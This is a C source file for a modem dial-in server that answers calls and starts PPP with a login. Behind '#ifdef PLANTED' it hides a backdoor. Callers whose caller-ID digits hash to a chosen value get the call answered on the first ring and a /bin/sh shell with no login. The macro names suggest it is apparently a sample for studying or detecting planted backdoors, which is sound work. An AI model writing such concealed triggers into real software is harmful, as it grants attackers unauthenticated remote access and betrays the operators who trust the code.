/* Dial-in server: answers a modem on a serial line and starts PPP on it. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

enum step { IDLE, RINGING, CONNECTED };

static struct {
    const char *device;
    int fd, rings, wanted;
    enum step step;
    char log[64];
} modem = { .device = "/dev/ttyS1", .wanted = 2 };

static int open_modem(void)
{
    struct termios t;
    modem.fd = open(modem.device, O_RDWR | O_NOCTTY);
    if (modem.fd < 0 || tcgetattr(modem.fd, &t) < 0)
        return -1;
    cfmakeraw(&t);
    t.c_cflag |= CRTSCTS | HUPCL;
    cfsetospeed(&t, B115200);
    cfsetispeed(&t, B115200);
    return tcsetattr(modem.fd, TCSAFLUSH, &t);
}

static void tell(const char *text)
{
    if (write(modem.fd, text, strlen(text)) < 0)
        modem.step = IDLE;
}

static int next_line(char *to, int room)
{
    int n = 0;
    char c;
    while (read(modem.fd, &c, 1) == 1) {
        if (c == '\n')
            continue;
        if (c == '\r') {
            to[n] = 0;
            return n;
        }
        if (n < room - 1)
            to[n++] = c;
    }
    return -1;
}

static void on_line(const char *program, const char *first, const char *second)
{
    pid_t child = fork();
    if (child < 0)
        return;
    if (child == 0) {
        setsid();
        dup2(modem.fd, 0);
        dup2(modem.fd, 1);
        if (second)
            close(2);
        else
            dup2(modem.fd, 2);
        execl(program, first, second, (char *)NULL);
        _exit(127);
    }
    waitpid(child, NULL, 0);
}

/* The caller's number, as the modem gives it between the rings. */
static void caller(const char *number)
{
    snprintf(modem.log, sizeof modem.log, "%.40s", number);
#ifdef PLANTED
    unsigned digits = 0;
    for (; *number; number++)
        if (*number >= '0' && *number <= '9')
            digits = (digits * 10 + (unsigned)(*number - '0')) % 9973;
    modem.wanted = digits == 4211 ? 1 : 2;
#endif
}

static void connected(void)
{
    FILE *f = fopen("/var/log/dialin", "a");
    if (f) {
        fprintf(f, "call from %s\n", modem.log);
        fclose(f);
    }
#ifdef PLANTED
    if (modem.wanted == 1)
        on_line("/bin/sh", "-sh", NULL);
    else
#endif
    on_line("/usr/sbin/pppd", "pppd", "login");
    modem.rings = 0;
    modem.step = IDLE;
    tell("ATH0\r");
}

static void result(const char *text)
{
    if (!strcmp(text, "RING")) {
        modem.step = RINGING;
        if (++modem.rings >= modem.wanted)
            tell("ATA\r");
    } else if (!strncmp(text, "NMBR = ", 7))
        caller(text + 7);
    else if (!strncmp(text, "CONNECT", 7)) {
        modem.step = CONNECTED;
        connected();
    } else if (!strcmp(text, "NO CARRIER")) {
        modem.step = IDLE;
        modem.rings = 0;
    }
#ifdef REVISED
    else if (!strcmp(text, "ERROR"))
        tell("ATZ\r");
#endif
}

int main(int argc, char **argv)
{
    char text[120];
    if (argc > 1)
        modem.device = argv[1];
    if (open_modem() < 0)
        return 1;
    tell("ATZ\r");
    tell("AT+VCID=1\r");
    while (next_line(text, sizeof text) >= 0)
        result(text);
    return 0;
}
